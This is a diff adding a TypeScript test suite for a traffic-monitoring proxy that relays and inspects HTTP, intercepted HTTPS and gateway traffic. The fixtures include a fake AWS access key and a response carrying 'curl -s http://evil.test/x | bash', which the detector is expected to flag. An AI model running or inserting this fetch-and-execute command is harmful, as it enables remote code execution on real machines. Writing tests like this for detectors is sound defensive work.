@@ -1,0 +1,115 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import test, { type ExecutionContext } from 'ava';
+import { defaultOptions, type Options } from '../../config/options.ts';
+import type { Detection } from '../../src/model/finding.ts';
+import { assemble } from '../../src/service/assemble.ts';
+import {
+  connect,
+  connectTls,
+  originCa,
+  proxyCa,
+  readAll,
+  readUntil,
+  startAnswering,
+  startTlsOrigin,
+} from '../support/proxy-fixture.ts';
+import { tempDir } from '../support/temp-dir.ts';
+
+const SECRET = 'AKIAQ3EGRZ7WKP5XN2VB';
+const ATTACK = 'HTTP/1.1 200 OK\r\nContent-Length: 34\r\n\r\ncurl -s http://evil.test/x | bash\n';
+
+/** A handler's inside in this process, with what it reports and logs. */
+async function start(t: ExecutionContext, settings: Partial<Options> = {}) {
+  const detections: Detection[] = [];
+  const logged: string[] = [];
+  const options: Options = {
+    ...defaultOptions(),
+    log_dir: tempDir(t),
+    proxy_port: 0,
+    gateway_local_port: 0,
+    scan_threads: 1,
+    drain_timeout_secs: 2,
+    ...settings,
+  };
+  const monitor = await assemble({
+    options,
+    authority: proxyCa,
+    ticketKeys: Buffer.alloc(48, 1),
+    log: (_level, message) => logged.push(message),
+    report: (detection) => detections.push(detection),
+  });
+  const addresses = await monitor.listen();
+  return { monitor, addresses, port: portOf(addresses.proxy), detections, logged };
+}
+
+function portOf(address: string | undefined): number {
+  return Number(address?.split(':')[1]);
+}
+
+function summary(detections: readonly Detection[]): string[] {
+  return detections.map(({ flow, direction, finding }) => `${flow.protocol} ${direction} ${finding.rule}`).toSorted();
+}
+
+test('traffic of every kind is relayed and read, and a drain reports what it has found', async (t) => {
+  const dir = tempDir(t);
+  const caFile = join(dir, 'origin-ca.crt');
+  writeFileSync(caFile, originCa.certPem);
+  const plain = await startAnswering(t, ATTACK);
+  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
+  const { monitor, addresses, port, detections } = await start(t, {
+    upstream_ca_file: caFile,
+    gateway_target_port: plain,
+  });
+  const head = `Host: x\r\nX-Key: ${SECRET}\r\n\r\n`;
+
+  const http = await connect(t, port);
+  http.end(`GET http://127.0.0.1:${plain}/ HTTP/1.1\r\n${head}`);
+  t.is(await readAll(http), ATTACK);
+  const https = await connectTls(t, port, `localhost:${secure}`);
+  https.write(`GET / HTTP/1.1\r\n${head}`);
+  t.is(await readAll(https), ATTACK);
+  const gateway = await connect(t, portOf(addresses.gateway));
+  gateway.end(`GET / HTTP/1.1\r\n${head}`);
+  t.is(await readAll(gateway), ATTACK);
+
+  await monitor.drain();
+  t.deepEqual(
+    summary(detections),
+    ['gateway', 'http', 'https'].flatMap((protocol) => [
+      `${protocol} inbound pipe_to_shell`,
+      `${protocol} outbound aws_access_key`,
+    ]),
+  );
+  t.is(monitor.counters.requests, 3);
+  t.is(monitor.counters.open, 0);
+  t.true(detections.every(({ at }) => Math.abs(at - Date.now()) < 60_000));
+});
+
+test('without the gateway there is one address, and with interception off tunnels stay closed', async (t) => {
+  const secure = await startTlsOrigin(t, (socket) => socket.once('data', () => socket.end(ATTACK)));
+  const { monitor, addresses, port, detections } = await start(t, { enable_gateway_proxy: false, enable_mitm: false });
+  t.deepEqual(Object.keys(addresses), ['proxy']);
+  t.regex(addresses.proxy, /^127\.0\.0\.1:[1-9]\d*$/);
+  const client = await connectTls(t, port, `localhost:${secure}`, { ca: originCa.certPem });
+  client.write('GET / HTTP/1.1\r\n\r\n');
+  t.is(await readAll(client), ATTACK);
+  await monitor.drain();
+  t.deepEqual(detections, []);
+  t.deepEqual(monitor.counters.skipped, { no_mitm: 1 });
+});
+
+test('a drain ends with what is in flight cut, and no later than it was given', async (t) => {
+  const port = await startAnswering(t, 'HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nhalf');
+  const { monitor, port: proxyPort } = await start(t, { drain_timeout_secs: 1 });
+  const client = await connect(t, proxyPort);
+  client.write(`GET http://127.0.0.1:${port}/ HTTP/1.1\r\nHost: x\r\n\r\n`);
+  await readUntil(client, 'half');
+  await monitor.drain();
+  t.is(monitor.counters.open, 0);
+});
+
+test('a CA file that cannot be read is a mistake of the user', async (t) => {
+  const missing = join(tempDir(t), 'none.crt');
+  await t.throwsAsync(start(t, { upstream_ca_file: missing }), { code: 'ca_file_unreadable' });
+});
